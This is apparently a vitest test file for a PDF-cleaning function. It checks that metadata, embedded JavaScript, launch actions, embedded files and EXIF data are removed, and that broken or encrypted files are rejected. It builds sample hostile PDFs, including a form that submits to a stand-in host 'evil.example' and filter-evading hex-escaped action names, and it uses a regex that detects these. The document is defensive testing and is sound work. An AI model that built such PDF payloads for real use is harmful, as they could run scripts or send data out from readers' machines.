import { deflateSync } from 'node:zlib';

import { decodePDFRawStream, PDFDict, PDFDocument, PDFName, PDFRawStream } from '@cantoo/pdf-lib';
import { describe, expect, it } from 'vitest';

import { packedObjects, pdfStream, smallPdf } from '#tests/support/small-pdf.ts';

import { cleanPdf } from './clean-pdf.ts';

const SECRET = 'Mario Bianchi via Padova';
const URL = 'https://evil.example/';

/** Everything a reader of the file could find: each object's text, streams unpacked. */
async function insideOf(bytes: Uint8Array): Promise<string> {
  const document = await PDFDocument.load(bytes, { updateMetadata: false });
  const texts = document.context.enumerateIndirectObjects().map(([, object]) => {
    const isStream = object instanceof PDFRawStream;
    const data = isStream
      ? Buffer.from(decodePDFRawStream(object).decode()).toString('latin1')
      : '';
    return `${object.toString()}\n${data}`;
  });
  return [Buffer.from(bytes).toString('latin1'), ...texts].join('\n');
}

async function cleaned(bytes: Uint8Array): Promise<Uint8Array> {
  const result = await cleanPdf(bytes);
  if (!result.ok) throw new Error(result.code);
  return result.value;
}

const js = (name = 'JavaScript') => `<< /S /${name} /JS (app.alert("${SECRET}")) >>`;
const xmp = pdfStream('/Type /Metadata /Subtype /XML', `<dc:creator>${SECRET}</dc:creator>`);
const mark = (more: string) => `/Annots [<< /Type /Annot /Rect [0 0 9 9] ${more} >>]`;
const look = pdfStream('/Type /XObject /Subtype /Form /BBox [0 0 9 9]', '0 0 9 9 re f');

/** Each thing a PDF could do or carry, and how it is written. */
const HARMS: readonly (readonly [string, Parameters<typeof smallPdf>[0]])[] = [
  [
    'information on the document',
    { trailer: '/Info 9 0 R', objects: { 9: `<< /Author (${SECRET}) >>` } },
  ],
  ['XMP metadata', { catalog: '/Metadata 9 0 R', objects: { 9: xmp } }],
  ['XMP of a page', { page: '/Metadata 9 0 R', objects: { 9: xmp } }],
  ['private data of a program', { page: `/PieceInfo << /X << /Private (${SECRET}) >> >>` }],
  ['a script at opening', { catalog: `/OpenAction ${js()}` }],
  ['a script by another name', { catalog: `/OpenAction ${js('J#61vaScript')}` }],
  ['a hex-escaped key', { catalog: `/Open#41ction << /S /JavaScript /#4aS (${SECRET}) >>` }],
  ['a script of the document', { catalog: `/Names << /JavaScript << /Names [(a) ${js()}] >> >>` }],
  ['actions of the document', { catalog: `/AA << /WC ${js()} >>` }],
  ['actions of a page', { page: `/AA << /O ${js()} >>` }],
  [
    'a script in an object stream',
    { catalog: '/OpenAction 9 0 R', objects: { 8: packedObjects({ 9: js() }) } },
  ],
  [
    'an escaped script in an object stream',
    { page: '/AA << /O 9 0 R >>', objects: { 8: packedObjects({ 9: js('#4a#61vaScript') }) } },
  ],
  [
    'a script in a stream',
    {
      catalog: '/OpenAction << /S /JavaScript /JS 9 0 R >>',
      objects: { 9: pdfStream('/Filter /FlateDecode', deflateSync(SECRET)) },
    },
  ],
  ['a program to start', { catalog: `/OpenAction << /S /Launch /F (${SECRET}) >>` }],
  ['a link to elsewhere', { page: mark(`/Subtype /Link /A << /S /URI /URI (${URL}) >>`) }],
  [
    'a button with a script',
    {
      page: mark(`/Subtype /Widget /FT /Btn /AP << /N 9 0 R >> /A ${js()} /AA << /D ${js()} >>`),
      objects: { 9: look },
    },
  ],
  [
    'a form that is sent',
    {
      catalog: `/AcroForm << /Fields [9 0 R] >>`,
      objects: { 9: `<< /FT /Btn /A << /S /SubmitForm /F (${URL}) >> >>` },
    },
  ],
  [
    'an XFA form',
    {
      catalog: '/AcroForm << /XFA 9 0 R >>',
      objects: { 9: pdfStream('', `<xdp>${SECRET}</xdp>`) },
    },
  ],
  [
    'an embedded file',
    {
      catalog: `/Names << /EmbeddedFiles << /Names [(a) 9 0 R] >> >> /AF [9 0 R]`,
      objects: {
        9: '<< /Type /Filespec /EF << /F 10 0 R >> >>',
        10: pdfStream('/Type /EmbeddedFile', SECRET),
      },
    },
  ],
  [
    'a file on a page',
    {
      page: mark('/Subtype /FileAttachment /FS 9 0 R /AP << /N 11 0 R >>'),
      objects: {
        9: '<< /Type /Filespec /EF << /F 10 0 R >> >>',
        10: pdfStream('/Type /EmbeddedFile', SECRET),
        11: look,
      },
    },
  ],
  [
    'a stream kept elsewhere',
    {
      page: mark('/Subtype /Stamp /AP << /N 9 0 R >>'),
      objects: { 9: pdfStream(`/Subtype /Form /BBox [0 0 9 9] /F (${URL})`, '') },
    },
  ],
  [
    'words behind a mark',
    {
      page: mark(`/Subtype /Text /Contents (${SECRET}) /T (${SECRET}) /AP << /N 9 0 R >>`),
      objects: { 9: look },
    },
  ],
  [
    'XMP of a picture',
    {
      page: '/Resources << /XObject << /P 9 0 R >> >>',
      objects: {
        9: pdfStream('/Subtype /Image /Width 1 /Height 1 /Metadata 10 0 R', 'x'),
        10: xmp,
      },
    },
  ],
  [
    'an action among the resources',
    {
      page: `/Resources << /Properties << /X ${js()} >> /ExtGState << /Y 9 0 R >> >>`,
      objects: { 9: js() },
    },
  ],
  ['an object nothing refers to', { objects: { 9: `<< /Author (${SECRET}) ${js().slice(2)}` } }],
];

describe('a PDF made anew', () => {
  it.each(HARMS)('[B15] has no more %s', async (_, parts) => {
    const dirty = smallPdf(parts);
    const inside = await insideOf(dirty);
    expect([SECRET, URL].some((trace) => inside.includes(trace))).toBe(true);
    const clean = await insideOf(await cleaned(dirty));
    expect(clean).toContain('(Preventivo) Tj');
    expect(clean).not.toMatch(
      /Bianchi|evil\.example|\/(JS|JavaScript|OpenAction|AA|Launch|URI|SubmitForm|XFA|AcroForm|EmbeddedFile|Filespec|EF|Metadata|PieceInfo|Author|Producer|CreationDate)\b/,
    );
  });

  it('[B15] draws what the other drew: fonts, pictures by any name, filled fields', async () => {
    const parts = {
      page: `/Rotate 90 /CropBox [0 0 200 100] ${mark('/Subtype /Widget /FT /Tx /V (x) /AS /A /AP << /N << /A 9 0 R >> >>')}`,
      objects: {
        9: pdfStream(
          '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /AA 10 0 R >> >>',
          '/AA Do',
        ),
        10: pdfStream(
          '/Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray',
          'z',
        ),
      },
    };
    const bytes = await cleaned(smallPdf(parts));
    const page = (await PDFDocument.load(bytes)).getPage(0);
    expect([page.getRotation().angle, page.getCropBox().width]).toEqual([90, 200]);
    expect(page.node.Resources()?.lookup(PDFName.of('Font'), PDFDict).has(PDFName.of('A'))).toBe(
      true,
    );
    const field = page.node.Annots()?.lookup(0, PDFDict);
    const state = field?.lookup(PDFName.of('AP'), PDFDict).lookup(PDFName.of('N'), PDFDict);
    const drawing = state?.lookup(PDFName.of('A'));
    expect(drawing instanceof PDFRawStream && drawing.dict.toString()).toContain('/AA');
    expect(field?.has(PDFName.of('V'))).toBe(false);
  });

  it('[B15] loses what the camera wrote into a photo on its page', async () => {
    const exif = Buffer.from(`\xff\xe1\x00\x20Exif\0\0${SECRET}`, 'latin1');
    exif.writeUInt16BE(exif.length - 2, 2);
    const photo = Buffer.concat([
      Buffer.from([0xff, 0xd8]),
      exif,
      Buffer.from([0xff, 0xc0, 0, 11, 8, 0, 1, 0, 1, 1, 1, 0x11, 0]),
      Buffer.from([0xff, 0xda, 0, 8, 1, 1, 0, 0, 63, 0, 7, 0xff, 0xd9]),
    ]);
    const dirty = smallPdf({
      page: '/Resources << /XObject << /P 9 0 R >> >>',
      objects: { 9: pdfStream('/Subtype /Image /Width 1 /Height 1 /Filter /DCTDecode', photo) },
    });
    expect(Buffer.from(dirty).includes(SECRET)).toBe(true);
    expect(Buffer.from(await cleaned(dirty)).includes(SECRET)).toBe(false);
  });

  it('[B15] a protected one is refused with its own reason', async () => {
    const encrypt = '<< /Filter /Standard /V 1 /R 2 /O (o) /U (u) /P -44 >>';
    const dirty = smallPdf({ trailer: '/Encrypt 9 0 R /ID [(a) (a)]', objects: { 9: encrypt } });
    expect(await cleanPdf(dirty)).toEqual({ ok: false, code: 'file.encrypted' });
  });

  it('[B15] one that opens without a password is cleaned, whatever it forbids', async () => {
    const made = await PDFDocument.create();
    made.setAuthor(SECRET);
    made.addPage().drawText('Estratto conto');
    const locked = async (userPassword: string) => {
      const document = await PDFDocument.load(await made.save());
      document.encrypt({ userPassword, ownerPassword: 'banca', permissions: { modifying: false } });
      return document.save();
    };
    const inside = await insideOf(await cleaned(await locked('')));
    expect(inside).toContain(Buffer.from('Estratto conto').toString('hex').toUpperCase());
    expect(inside).not.toMatch(/Bianchi|Encrypt/);
    expect(await cleanPdf(await locked('segreta'))).toEqual({ ok: false, code: 'file.encrypted' });
  });

  it('[B15] a filled field is still drawn: by readers that draw fields of forms only, too', async () => {
    const made = await PDFDocument.create();
    const field = made.getForm().createTextField('nome');
    field.setText('Dieci lezioni');
    field.addToPage(made.addPage(), { width: 200, height: 30 });
    const page = (await PDFDocument.load(await cleaned(await made.save()))).getPage(0);
    const mark = page.node.Annots()?.lookup(0, PDFDict);
    expect(mark?.get(PDFName.of('Subtype'))).toBe(PDFName.of('Stamp'));
    const look = mark?.lookup(PDFName.of('AP'), PDFDict).lookup(PDFName.of('N'));
    const drawing = look instanceof PDFRawStream ? decodePDFRawStream(look).decode() : [];
    expect(Buffer.from(drawing).toString('latin1')).toContain(
      Buffer.from('Dieci lezioni').toString('hex').toUpperCase(),
    );
  });

  it.each([
    ['nothing but a head', '%PDF-1.7'],
    ['no pages', '%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>'],
    ['arrays in arrays', `%PDF-1.7\n1 0 obj\n${'['.repeat(200_000)}\nendobj`],
    ['words', `%PDF-1.7\n${'ciao '.repeat(1_000)}`],
  ])('[B15] %s is broken', async (_, text) => {
    expect(await cleanPdf(Buffer.from(text, 'latin1'))).toEqual({ ok: false, code: 'file.broken' });
  });

  it('[B15] a page tree that names its branches twice is broken, and is not walked', async () => {
    const branches = Array.from({ length: 60 }, (_, at) => [
      10 + at,
      `<< /Type /Pages /Kids [${at < 59 ? `${11 + at} 0 R ${11 + at} 0 R` : '3 0 R'}] /Count 1 >>`,
    ]);
    const root = '<< /Type /Pages /Kids [10 0 R] /Count 1 >>';
    const bytes = smallPdf({ objects: { 2: root, ...Object.fromEntries(branches) } });
    expect(await cleanPdf(bytes)).toEqual({ ok: false, code: 'file.broken' });
  });
});
